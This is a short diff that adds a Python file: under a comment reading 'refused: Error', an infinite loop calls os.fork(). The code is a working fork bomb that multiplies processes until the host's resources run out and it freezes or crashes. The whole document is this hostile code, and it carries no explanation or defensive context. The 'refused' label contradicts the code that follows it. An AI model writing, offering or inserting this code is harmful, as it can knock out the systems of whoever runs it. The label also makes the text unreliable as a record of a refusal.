@@ -1,0 +1,5 @@
+# refused: Error
+import os
+
+while True:
+    os.fork()
